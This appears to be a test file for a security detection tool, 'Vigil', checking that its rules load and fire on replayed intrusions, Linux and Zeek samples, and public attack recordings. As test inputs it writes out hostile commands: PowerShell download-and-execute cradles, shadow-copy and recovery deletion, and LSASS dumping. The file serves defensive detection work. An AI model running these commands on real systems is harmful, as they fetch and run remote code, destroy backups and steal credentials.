/** Vigil's own detection content: every rule in rules/ loads cleanly, and each stage of the samples raises its rule. */
import { spawnSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { buildDetector, ruleSetup } from '../src/app/index.ts';
import { correlate } from '../src/app/detector.ts';
import type { Detection, Event } from '../src/core/index.ts';
import { listInputs, readBytes, readInput } from '../src/ingest/index.ts';

const repo = fileURLToPath(new URL('..', import.meta.url));
const shared = resolve(repo, '../shared/data');
const rulesDir = join(repo, 'rules');

/** The ids of the rules this file talks about, by what they catch. */
const RULE = {
  officeChild: 'b9269d2d-c962-4e29-b2ee-7258752e008d',
  encodedCradle: '2b4d19ce-d00e-4362-84aa-24130aeafc88',
  schtasksCreate: '8f353c08-c54a-4f66-ae81-769ff541d2de',
  uacChild: '8defae54-b15f-4a60-a438-2e62d3fce2eb',
  discovery: '2460986c-4097-4294-a4cd-da40696f06b5',
  inhibitRecovery: 'f9c0a46c-b0a5-419f-a635-d8bb35382318',
  uacRegistry: 'e49b7c20-034e-443d-af6f-d153fca396ad',
  lsass: 'f3f0ec50-6b9f-43d6-9dd1-c644ff4b4156',
  exeDrop: '8adf99da-e34b-4936-9d8f-a532523d950c',
  task4698: '08801cd1-bb3b-4e65-ad37-b22912b14ded',
  securityCleared: 'e89b2daa-9b03-444f-b5ba-874b71bbf80b',
  failedLogon: '55345555-a1fe-4dc9-a02d-0f80c54cf828',
  successLogon: 'a6c1955d-e35b-41e8-9580-ebecd6e890a1',
  privGroup: 'f31d5189-eb48-45c8-b6e1-c0c4ba8473a2',
  serviceInstall: 'd9a16483-e5a2-47c7-ab26-a0ac3bcec45d',
  eventlogCleared: 'e9119d42-c28e-4c39-908a-e5b52b01fbad',
  sshIndicators: '49e9df3c-0380-450c-bfa9-d915ab3f4be2',
  sshFailure: '5df5a66e-52be-4860-82c2-80b83e8f6c48',
  miningPorts: '391304f3-6395-4ca5-8cc9-e6da37afb65f',
  smbInternet: '70b4f15d-28a6-4e41-9f8b-53cf4a29eb24',
  bruteForce: '2e8f90c0-3255-427d-8e59-262c6780a48e',
  spray: '85a1cc73-e32d-466e-be77-0853d3800666',
  bruteThenSuccess: '86d97b64-b26c-4b7c-a85c-34ac0eb5265f',
  bruteForceStep: '890350be-723a-48a4-8cf4-99512bfe1048',
  discoveryBurst: '1bd394f9-2a28-4309-8842-468decab328b',
  sshBruteForce: 'fdc990a6-8226-4d5e-a7ec-800520baccb6',
  mongoMassDrop: '9b6a2a7e-6f0d-4f7e-a6a4-2d7c0c9e3f55',
  miningPoolHosts: '9d3e7c2a-4b6f-4e18-a5d0-3c8f2b1e6a97',
  mailConsumedByAgent: 'e1d058e7-489c-445d-8030-0fdb6e55b6d0',
} as const;

type Built = ReturnType<typeof buildDetector>;

async function builtin(): Promise<Built> {
  const { setup, issues } = await ruleSetup([], true, 'local');
  expect(issues).toEqual([]);
  return buildDetector(setup);
}

/** Every event of a file or folder, read with the real readers; reading problems fail the test. */
async function readAll(path: string): Promise<Event[]> {
  const { inputs, issues } = await listInputs([path]);
  expect(issues).toEqual([]);
  const events: Event[] = [];
  for (const input of inputs) {
    for await (const batch of readInput(input, { tenant: 'local' })) {
      expect(batch.issues).toEqual([]);
      events.push(...batch.events);
    }
  }
  return events;
}

function matchAll(d: Built, events: readonly Event[]): Detection[] {
  return events.flatMap((e) => d.ruleset.match(e));
}

const str = (v: unknown): string =>
  typeof v === 'string' || typeof v === 'number' ? String(v) : '';
const base = (p: unknown): string => str(p).split('\\').pop() ?? '';

/** A short, stable description of a Windows event: host/EventID/what it is about. */
function describeEvent(e: Event): string {
  const f = e.fields;
  const host = str(f['Computer']).split('.')[0] ?? '';
  const id = str(f['EventID']);
  let what = '';
  switch (id) {
    case '1':
      what = `${base(f['Image'])}<${base(f['ParentImage'])}`;
      break;
    case '10':
      what = `${base(f['SourceImage'])}>${base(f['TargetImage'])}`;
      break;
    case '11':
      what = base(f['TargetFilename']);
      break;
    case '12':
    case '13':
      what = base(f['TargetObject']);
      break;
    case '4698':
      what = str(f['TaskName']);
      break;
    case '4624':
    case '4625':
      what = `${str(f['TargetUserName'])}@${str(f['IpAddress'])}`;
      break;
    case '7045':
      what = str(f['ServiceName']);
      break;
  }
  return `${host}/${id}/${what}`;
}

function byRule(dets: readonly Detection[]): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const d of dets) (out[d.rule.id] ??= []).push(...d.events.map(describeEvent));
  for (const list of Object.values(out)) list.sort();
  return out;
}

function yamlFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.yml'))
    .map((f) => join(dir, f))
    .sort();
}

describe('rules/: loading', () => {
  it('loads every rule with the real engine: no issues, nothing unsupported', async () => {
    const d = await builtin();
    const documents = yamlFiles(rulesDir).reduce(
      (n, f) => n + parseAllDocuments(readFileSync(f, 'utf8')).length,
      0,
    );
    expect(d.report.issues).toEqual([]);
    expect(d.report.unsupported).toEqual([]);
    expect(d.report.rules).toBe(documents);
    expect(d.report.loaded).toBe(documents);
    expect(d.correlations.map((c) => c.id).sort()).toEqual(
      [
        RULE.bruteForce,
        RULE.bruteForceStep,
        RULE.spray,
        RULE.bruteThenSuccess,
        RULE.discoveryBurst,
        RULE.sshBruteForce,
        RULE.mongoMassDrop,
        RULE.miningPoolHosts,
        RULE.mailConsumedByAgent,
      ].sort(),
    );
  });

  it('gives every rule the metadata a SOC needs, with valid ATT&CK tags', () => {
    const techniques = JSON.parse(
      readFileSync(join(shared, 'attack/enterprise-techniques.min.json'), 'utf8'),
    ) as Record<string, { deprecated: boolean; revoked: boolean; tactics: string[] }>;
    const uuid4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
    const ids = new Set<string>();
    const problems: string[] = [];
    for (const file of yamlFiles(rulesDir)) {
      const rel = relative(rulesDir, file);
      for (const [index, doc] of parseAllDocuments(readFileSync(file, 'utf8')).entries()) {
        const r = doc.toJS() as Record<string, unknown>;
        const say = (m: string): void => void problems.push(`${rel}#${index}: ${m}`);
        const id = str(r['id']);
        if (!uuid4.test(id)) say('id is not a random (v4) UUID');
        if (ids.has(id)) say('duplicate id');
        ids.add(id);
        // Later documents of a file are steps of the correlation in the first; only it carries metadata.
        if (index > 0) {
          if (r['correlation'] === undefined || typeof r['name'] !== 'string')
            say('step without a name');
          continue;
        }
        if (r['author'] !== 'Vigil') say('author is not Vigil');
        if (!['stable', 'test', 'experimental'].includes(str(r['status']))) say('status');
        if (!['informational', 'low', 'medium', 'high', 'critical'].includes(str(r['level'])))
          say('level');
        if (str(r['description']).length < 80) say('description too short');
        const fps = r['falsepositives'];
        if (!Array.isArray(fps) || fps.length === 0) say('no falsepositives');
        for (const ref of (r['references'] ?? []) as unknown[])
          if (!str(ref).startsWith('https://')) say(`reference ${str(ref)}`);
        const tags = (r['tags'] ?? []) as string[];
        const tactics = tags.filter((t) => /^attack\.[a-z-]+$/.test(t)).map((t) => t.slice(7));
        const techs = tags.filter((t) => /^attack\.t\d{4}(\.\d{3})?$/.test(t));
        if (techs.length === 0) say('no ATT&CK technique tag');
        for (const t of techs) {
          const tech = techniques[t.slice(7).toUpperCase()];
          if (!tech || tech.deprecated || tech.revoked) say(`unknown or retired technique ${t}`);
          else if (!tech.tactics.some((x) => tactics.includes(x)))
            say(`${t} has none of the rule's tactics`);
        }
        const isCorrelation = r['correlation'] !== undefined;
        const name = rel.split('/').pop() ?? '';
        if (isCorrelation !== name.startsWith('mr_')) say('correlation files are named mr_*');
        if (isCorrelation !== rel.startsWith('correlation/'))
          say('correlations live in correlation/');
      }
    }
    expect(problems).toEqual([]);
  });
});

describe('config/placeholders.yml', () => {
  const dir = join(shared, 'sigma/rules-placeholder');
  const placeholdersIn = (files: readonly string[]): string[] =>
    files.flatMap((f) =>
      [...readFileSync(f, 'utf8').matchAll(/%([A-Za-z][A-Za-z0-9_-]*)%/g)].map((m) => m[1] ?? ''),
    );
  // The placeholder folder, plus the few rules elsewhere that use `|expand` (e.g. CertiGhost's %known_cdcs%).
  const used = new Set([
    ...placeholdersIn(yamlFiles(dir)),
    ...placeholdersIn(
      ['rules', 'rules-emerging-threats', 'rules-threat-hunting']
        .flatMap((d) => yamlFiles(join(shared, 'sigma', d)))
        .filter((f) => readFileSync(f, 'utf8').includes('|expand')),
    ),
  ]);

  it('defines every placeholder SigmaHQ rules expand, and no stray names', async () => {
    const { setup } = await ruleSetup([], false, 'local');
    const defined = Object.keys(setup.placeholders);
    const standard = [
      'Administrators',
      'JumpServers',
      'Workstations',
      'Servers',
      'DomainControllers',
    ];
    expect(used.size).toBeGreaterThan(15);
    expect([...used].filter((p) => !defined.includes(p))).toEqual([]);
    expect(defined.filter((p) => !used.has(p) && !standard.includes(p))).toEqual([]);
  });

  it('makes every placeholder rule load; without it they are rejected', async () => {
    const { setup } = await ruleSetup([dir], false, 'local');
    const loaded = buildDetector(setup);
    expect(loaded.report.issues).toEqual([]);
    expect(loaded.report.unsupported).toEqual([]);
    expect(loaded.report.loaded).toBe(loaded.report.rules);

    const bare = buildDetector({ ...setup, placeholders: {} });
    const codes = new Set(bare.report.issues.map((i) => i.code));
    expect(codes).toEqual(new Set(['SIGMA_PLACEHOLDER']));
    expect(bare.report.loaded).toBeLessThan(loaded.report.loaded);
  });
});

describe('samples/quickstart: the WS-FIN-07 / SRV-DB-01 intrusion', () => {
  let d: Built;
  let events: Event[];
  let hits: Detection[];
  beforeAll(async () => {
    d = await builtin();
    events = await readAll(join(repo, 'samples/quickstart'));
    hits = matchAll(d, events);
  });

  it('is a 40–120 event replay spanning about half an hour', () => {
    expect(events.length).toBeGreaterThanOrEqual(40);
    expect(events.length).toBeLessThanOrEqual(120);
    const ts = events.map((e) => e.ts);
    expect(ts.every(Number.isFinite)).toBe(true);
    const minutes = (Math.max(...ts) - Math.min(...ts)) / 60_000;
    expect(minutes).toBeGreaterThan(20);
    expect(minutes).toBeLessThan(40);
  });

  it('raises each stage’s rule on exactly that stage’s events, and nothing on the rest', () => {
    // Event 104 (System log cleared) is asserted separately below.
    const got = byRule(hits.filter((h) => h.rule.id !== RULE.eventlogCleared));
    const guesses = [
      'administrator', 'sqladmin', 'svc_sql', 'dbadmin', 'backupadmin', 'svc_sqlbackup',
      'administrator', 'sqladmin', 'svc_sql', 'dbadmin', 'svc_sqlbackup', 'administrator',
      'svc_sql', 'svc_sqlbackup',
    ]; // prettier-ignore
    expect(got).toEqual({
      // delivery and execution: WINWORD starts an encoded download cradle
      [RULE.officeChild]: ['WS-FIN-07/1/powershell.exe<WINWORD.EXE'],
      [RULE.encodedCradle]: ['WS-FIN-07/1/powershell.exe<WINWORD.EXE'],
      // the payload lands in %APPDATA%
      [RULE.exeDrop]: ['WS-FIN-07/11/odsync.exe'],
      // privilege escalation through the ms-settings handler and fodhelper
      [RULE.uacRegistry]: ['WS-FIN-07/13/(Default)'],
      [RULE.uacChild]: ['WS-FIN-07/1/odsync.exe<fodhelper.exe'],
      // persistence, seen twice: the process and the Security log
      [RULE.schtasksCreate]: ['WS-FIN-07/1/schtasks.exe<cmd.exe'],
      [RULE.task4698]: ['WS-FIN-07/4698/\\OneDriveSyncUpdate'],
      // discovery
      [RULE.discovery]: [
        'WS-FIN-07/1/net.exe<cmd.exe',
        'WS-FIN-07/1/net1.exe<net.exe',
        'WS-FIN-07/1/nltest.exe<cmd.exe',
        'WS-FIN-07/1/nltest.exe<cmd.exe',
        'WS-FIN-07/1/whoami.exe<cmd.exe',
      ],
      // credential access by the elevated implant, not by Defender
      [RULE.lsass]: ['WS-FIN-07/10/odsync.exe>lsass.exe'],
      // building blocks of the logon correlations: the mistyped unlock (127.0.0.1) is not one
      [RULE.failedLogon]: [
        ...guesses.map((u) => `SRV-DB-01/4625/${u}@10.20.14.37`),
        'SRV-DB-01/4625/svc_reporting@10.20.5.40',
      ].sort(),
      [RULE.successLogon]: [
        'SRV-DB-01/4624/svc_reporting@10.20.5.40',
        'SRV-DB-01/4624/svc_sqlbackup@10.20.14.37',
      ],
      // lateral movement, not the SQL Server telemetry service
      [RULE.serviceInstall]: ['SRV-DB-01/7045/ODSyncSvc'],
      // anti-forensics
      [RULE.securityCleared]: ['SRV-DB-01/1102/'],
    });
  });

  it('reports nothing for the benign background once correlation has run', () => {
    const benign = new Set(
      events.filter((e) => {
        const f = e.fields;
        const image = str(f['Image']);
        return (
          image.endsWith('\\EXCEL.EXE') ||
          str(f['CommandLine']).includes('Send-Inventory.ps1') ||
          str(f['ScriptBlockText']).includes('inventory.corvane.local') ||
          str(f['SourceImage']).endsWith('\\MsMpEng.exe') ||
          str(f['TaskName']) === '\\Adobe Acrobat Update Task' ||
          str(f['TargetUserName']) === 'svc_reporting' ||
          (str(f['EventID']) === '4625' && str(f['IpAddress']) === '127.0.0.1') ||
          str(f['ServiceName']).startsWith('SQL Server CEIP')
        );
      }),
    );
    expect(benign.size).toBe(9);
    const reported = correlate(d.correlations, hits);
    expect(reported.filter((r) => r.events.some((e) => benign.has(e)))).toEqual([]);
  });

  it('correlates the discovery burst and the password guessing against SRV-DB-01', () => {
    const reported = correlate(d.correlations, hits);
    const corr = (id: string): Detection[] =>
      reported.filter((r) => r.kind === 'correlation' && r.rule.id === id);
    const success = events.find(
      (e) => str(e.fields['EventID']) === '4624' && e.fields['TargetUserName'] === 'svc_sqlbackup',
    );
    expect(success).toBeDefined();

    const brute = corr(RULE.bruteForce);
    expect(brute).toHaveLength(1);
    expect(brute[0]?.group).toEqual({ IpAddress: '10.20.14.37' });
    expect(brute[0]?.matched['event_count']).toBe(10);

    const spray = corr(RULE.spray);
    expect(spray.length).toBeGreaterThanOrEqual(1);
    expect(spray.every((s) => s.group?.['IpAddress'] === '10.20.14.37')).toBe(true);
    expect(spray[0]?.matched['value_count']).toBe(5);

    const owned = corr(RULE.bruteThenSuccess);
    expect(owned).toHaveLength(1);
    expect(owned[0]?.group).toEqual({ IpAddress: '10.20.14.37' });
    expect(owned[0]?.ts).toBe(success?.ts);
    expect(owned[0]?.events).toContain(success);

    const burst = corr(RULE.discoveryBurst);
    expect(burst).toHaveLength(1);
    expect(burst[0]?.group).toEqual({ Computer: 'WS-FIN-07.corvane.local' });

    // The single logon events only feed the correlations; the discovery commands stay visible.
    const ids = new Set(reported.map((r) => r.rule.id));
    expect(ids.has(RULE.failedLogon)).toBe(false);
    expect(ids.has(RULE.successLogon)).toBe(false);
    expect(ids.has(RULE.discovery)).toBe(true);
    expect(reported.some((r) => r.group?.['IpAddress'] === '10.20.5.40')).toBe(false);
  });

  it('is what the README quick start shows: `vigil scan samples/quickstart` reports every stage', () => {
    const r = spawnSync(
      process.execPath,
      [
        join(repo, 'bin/vigil.js'),
        'scan',
        'samples/quickstart',
        '--format',
        'jsonl',
        '--no-progress',
      ],
      { cwd: repo, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } },
    );
    expect(r.status).toBe(0);
    const reported = new Set(
      r.stdout
        .split('\n')
        .filter((l) => l.trim() !== '')
        .map((l) => str((JSON.parse(l) as Record<string, unknown>)['rule_id'])),
    );
    const stages = [
      RULE.officeChild, RULE.encodedCradle, RULE.exeDrop, RULE.uacRegistry, RULE.uacChild,
      RULE.schtasksCreate, RULE.task4698, RULE.discovery, RULE.discoveryBurst, RULE.lsass,
      RULE.bruteForce, RULE.spray, RULE.bruteThenSuccess, RULE.serviceInstall, RULE.securityCleared,
    ]; // prettier-ignore
    expect(stages.filter((id) => !reported.has(id))).toEqual([]);
    const allowed = new Set<string>([...stages, RULE.eventlogCleared]);
    expect([...reported].filter((id) => !allowed.has(id))).toEqual([]);
  });

  // Event 104 carries `Channel` in UserData too; both readers keep it as `UserData.Channel`.
  it('raises "Windows Event Log Cleared" on the System log clearing (event 104)', () => {
    expect(byRule(hits)[RULE.eventlogCleared]).toEqual(['SRV-DB-01/104/']);
  });
});

/** A Windows event as the readers produce it, for edge cases the samples do not cover. */
function winEvent(
  channel: string,
  eventId: number,
  fields: Record<string, string | number>,
): Event {
  return {
    ts: Date.parse('2026-11-17T10:00:00Z'),
    tenant: 'local',
    source: { product: 'windows' },
    fields: { Channel: channel, EventID: eventId, Computer: 'WS-TEST-01', ...fields },
    origin: { format: 'test' },
  };
}
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

describe('rules/: edge cases', () => {
  let d: Built;
  beforeAll(async () => {
    d = await builtin();
  });
  const fires = (e: Event, id: string): boolean => d.ruleset.match(e).some((h) => h.rule.id === id);

  it('encoded PowerShell cradle: any dash or slash, UTF-16LE payload only when it downloads or runs code', () => {
    const enc = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');
    const cradle = enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')");
    const ps = (cmd: string): Event =>
      winEvent(SYSMON, 1, {
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        OriginalFileName: 'PowerShell.EXE',
        CommandLine: cmd,
      });
    const cases: [string, boolean][] = [
      [`powershell.exe -nop -w hidden -enc ${cradle}`, true],
      [`powershell.exe /enc ${cradle}`, true],
      [`powershell.exe \u2013EncodedCommand ${cradle}`, true],
      [`powershell.exe -e ${enc('Start-Sleep 1; Invoke-Expression $x')}`, true],
      [`powershell.exe -enc ${enc('Get-Process | Sort-Object CPU')}`, false],
      [`powershell.exe -File C:\\Scripts\\DownloadFile.ps1`, false],
    ];
    for (const [cmd, want] of cases)
      expect([cmd, fires(ps(cmd), RULE.encodedCradle)]).toEqual([cmd, want]);
  });

  it('scheduled task (4698): command in user folders, encoded or hidden PowerShell arguments', () => {
    const task = (command: string, args?: string): Event =>
      winEvent('Security', 4698, {
        TaskName: '\\T',
        TaskContent: `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions Context="Author"><Exec><Command>${command}</Command>${args === undefined ? '' : `<Arguments>${args}</Arguments>`}</Exec></Actions></Task>`,
      });
    const b64 = 'JABhAD0AJwBoAHQAdABwADoALwAvAGUA';
    const cases: [string, string | undefined, boolean][] = [
      ['C:\\Users\\a\\AppData\\Roaming\\x.exe', undefined, true],
      ['%TEMP%\\u.exe', undefined, true],
      ['C:\\Program Files\\Vendor\\update.exe', undefined, false],
      ['powershell.exe', '-NoProfile -File \\\\corp\\NETLOGON\\inventory.ps1', false],
      ['powershell.exe', `-enc ${b64}`, true],
      ['powershell.exe', `-ExecutionPolicy Bypass -e ${b64}`, true],
      ['powershell.exe', '-WindowStyle Hidden -File C:\\x.ps1', true],
      ['powershell.exe', "-c (New-Object Net.WebClient).DownloadString('http://x')|iex", true],
      ['rundll32.exe', 'C:\\Users\\Public\\x.dll,Start', true],
      ['mshta.exe', 'javascript:a', true],
      ['%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe', '/reporting', false],
      ['cmd.exe', '/c -enclosure x', false],
    ];
    for (const [command, args, want] of cases)
      expect([command, args, fires(task(command, args), RULE.task4698)]).toEqual([
        command,
        args,
        want,
      ]);
  });

  it('LSASS access: dumpers and unbacked code, not Defender or query-only handles', () => {
    const access = (
      source: string,
      granted: string,
      trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4',
    ): Event =>
      winEvent(SYSMON, 10, {
        SourceImage: source,
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: granted,
        CallTrace: trace,
      });
    expect(fires(access('C:\\Tools\\procdump64.exe', '0x1fffff'), RULE.lsass)).toBe(true);
    expect(fires(access('C:\\Windows\\System32\\Taskmgr.exe', '0x1fffff'), RULE.lsass)).toBe(true);
    expect(
      fires(
        access(
          'C:\\Windows\\System32\\rundll32.exe',
          '0x1000',
          'C:\\Windows\\System32\\dbgcore.DLL+48f2c',
        ),
        RULE.lsass,
      ),
    ).toBe(true);
    expect(fires(access('C:\\Windows\\System32\\svchost.exe', '0x1000'), RULE.lsass)).toBe(false);
    expect(
      fires(
        access(
          'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe',
          '0x1fffff',
        ),
        RULE.lsass,
      ),
    ).toBe(false);
    expect(fires(access('C:\\Windows\\System32\\wininit.exe', '0x1410'), RULE.lsass)).toBe(false);
  });

  it('process-creation rules also run on Security 4688 (hosts without Sysmon)', () => {
    const p4688 = (image: string, cmd: string, parent: string): Event =>
      winEvent('Security', 4688, {
        NewProcessName: image,
        CommandLine: cmd,
        ParentProcessName: parent,
        SubjectUserName: 'a.lindqvist',
        MandatoryLabel: 'S-1-16-8192',
      });
    const cmd = 'C:\\Windows\\System32\\cmd.exe';
    const b64 = Buffer.from(
      "(New-Object Net.WebClient).DownloadFile('http://x/a','a.exe')",
      'utf16le',
    ).toString('base64');
    const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const ids = (e: Event): string[] =>
      d.ruleset
        .match(e)
        .map((h) => h.rule.id)
        .sort();
    expect(ids(p4688(ps, `powershell -w hidden -enc ${b64}`, word))).toEqual(
      [RULE.officeChild, RULE.encodedCradle].sort(),
    );
    expect(ids(p4688('C:\\Windows\\System32\\nltest.exe', 'nltest /domain_trusts', cmd))).toEqual([
      RULE.discovery,
    ]);
    expect(
      ids(
        p4688(
          'C:\\Windows\\System32\\schtasks.exe',
          'schtasks /create /tn u /tr %APPDATA%\\u.exe',
          cmd,
        ),
      ),
    ).toEqual([RULE.schtasksCreate]);
    expect(
      ids(p4688('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet', cmd)),
    ).toEqual([RULE.inhibitRecovery]);
    expect(ids(p4688(cmd, 'cmd.exe /c whoami', 'C:\\Windows\\System32\\fodhelper.exe'))).toEqual([
      RULE.uacChild,
    ]);
  });

  it('ransomware recovery inhibition and privileged group changes', () => {
    const proc = (image: string, cmd: string): Event =>
      winEvent(SYSMON, 1, { Image: image, CommandLine: cmd });
    expect(
      fires(
        proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet'),
        RULE.inhibitRecovery,
      ),
    ).toBe(true);
    expect(
      fires(
        proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows'),
        RULE.inhibitRecovery,
      ),
    ).toBe(false);
    expect(
      fires(
        proc('C:\\Windows\\System32\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'),
        RULE.inhibitRecovery,
      ),
    ).toBe(true);
    expect(
      fires(
        proc('C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic shadowcopy delete'),
        RULE.inhibitRecovery,
      ),
    ).toBe(true);
    const add = (sid: string): Event =>
      winEvent('Security', 4728, { TargetSid: sid, MemberName: 'CN=x' });
    expect(fires(add('S-1-5-21-1-2-3-512'), RULE.privGroup)).toBe(true);
    expect(fires(add('S-1-5-21-1-2-3-1104'), RULE.privGroup)).toBe(false);
  });
});

describe('samples/linux and samples/zeek', () => {
  let d: Built;
  beforeAll(async () => {
    d = await builtin();
  });

  it('sees the SSH brute force on bastion-01, not the deploy user’s typo', async () => {
    const events = await readAll(join(repo, 'samples/linux/auth.log'));
    const hits = matchAll(d, events);
    const indicators = hits.filter((h) => h.rule.id === RULE.sshIndicators);
    expect(indicators.map((h) => str(h.events[0]?.fields['message']).slice(0, 40))).toEqual([
      'error: maximum authentication attempts e',
      'Disconnecting authenticating user root 2',
      'PAM 5 more authentication failures; logn',
    ]);
    const failures = hits.filter((h) => h.rule.id === RULE.sshFailure);
    expect(failures).toHaveLength(27);
    const reported = correlate(d.correlations, hits);
    const brute = reported.filter((r) => r.rule.id === RULE.sshBruteForce);
    expect(brute).toHaveLength(1);
    expect(brute[0]?.group).toEqual({ host: 'bastion-01' });
    expect(reported.some((r) => r.rule.id === RULE.sshFailure)).toBe(false);
  });

  it('sees the miner and the outbound SMB in Zeek conn, not scans or internal services', async () => {
    const events = await readAll(join(repo, 'samples/zeek/conn.log'));
    expect(events).toHaveLength(10);
    const got = matchAll(d, events).map(
      (h) =>
        `${h.rule.id === RULE.miningPorts ? 'mining' : h.rule.id === RULE.smbInternet ? 'smb' : h.rule.id} ${str(h.events[0]?.fields['id.resp_h'])}:${str(h.events[0]?.fields['id.resp_p'])}`,
    );
    expect(got.sort()).toEqual([
      'mining 198.51.100.77:3333',
      'mining 203.0.113.50:14444',
      'smb 192.0.2.200:445',
    ]);
  });
});

describe('real attack recordings (../shared/data)', () => {
  let d: Built;
  beforeAll(async () => {
    d = await builtin();
  });

  const cases: [string, string, keyof typeof RULE][] = [
    ['Mimikatz sekurlsa::logonpasswords', 'evtx/EVTX-ATTACK-SAMPLES/Credential Access/sysmon_10_lsass_mimikatz_sekurlsa_logonpasswords.evtx', 'lsass'],
    ['eventvwr UAC bypass', 'evtx/EVTX-ATTACK-SAMPLES/Privilege Escalation/Sysmon_13_1_UAC_Bypass_EventVwrBypass.evtx', 'uacRegistry'],
    ['Security log cleared', 'evtx/EVTX-ATTACK-SAMPLES/Defense Evasion/DE_1102_security_log_cleared.evtx', 'securityCleared'],
    ['System log cleared', 'evtx/EVTX-ATTACK-SAMPLES/Defense Evasion/DE_104_system_log_cleared.evtx', 'eventlogCleared'],
    ['Metasploit psexec with PowerShell', 'evtx/DeepBlueCLI/evtx/metasploit-psexec-powershell-target-system.evtx', 'serviceInstall'],
    ['Guest added to Administrators', 'evtx/EVTX-ATTACK-SAMPLES/Persistence/Network_Service_Guest_added_to_admins_4732.evtx', 'privGroup'],
    ['scheduled task running from AppData', 'evtx/EVTX-ATTACK-SAMPLES/Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx', 'schtasksCreate'],
  ]; // prettier-ignore

  it.each(cases)('%s raises its rule', async (_what, file, rule) => {
    const hits = matchAll(d, await readAll(join(shared, file)));
    expect(hits.some((h) => h.rule.id === RULE[rule])).toBe(true);
  });

  it('SMB password guessing (DeepBlueCLI) raises the brute-force correlation', async () => {
    const events = await readAll(
      join(shared, 'evtx/DeepBlueCLI/evtx/smb-password-guessing-security.evtx'),
    );
    const reported = correlate(d.correlations, matchAll(d, events));
    expect(reported.some((r) => r.rule.id === RULE.bruteForce)).toBe(true);
  });

  it('real sshd lines (wazuh-ruleset-tests) raise the SSH rules', () => {
    const dir = join(shared, 'datasets/wazuh-ruleset-tests');
    const maxAuth = readFileSync(join(dir, 'tools/rules-testing/tests/sshd.ini'), 'utf8')
      .split('\n')
      .filter((l) => l.includes('maximum authentication attempts exceeded'))
      .map((l) => l.replace(/^log \d+ pass = /, ''));
    expect(maxAuth).toHaveLength(1);
    const one = [
      ...readBytes(new TextEncoder().encode(`${maxAuth.join('\n')}\n`), 'auth.log', {
        tenant: 'local',
        format: 'auto',
      }),
    ].flatMap((b) => b.events);
    expect(matchAll(d, one).map((h) => h.rule.id)).toEqual([RULE.sshIndicators]);

    // 345 probes of invented user names from one address against host "eva".
    const eva = readFileSync(join(dir, 'rules/log-entries/sshd'));
    const events = [
      ...readBytes(eva, 'auth.log', { tenant: 'local', format: 'auto', referenceTime: 0 }),
    ].flatMap((b) => b.events);
    const reported = correlate(d.correlations, matchAll(d, events));
    const brute = reported.filter((r) => r.rule.id === RULE.sshBruteForce);
    expect(brute.length).toBeGreaterThan(0);
    expect(brute.every((b) => b.group?.['host'] === 'eva')).toBe(true);
  });
});
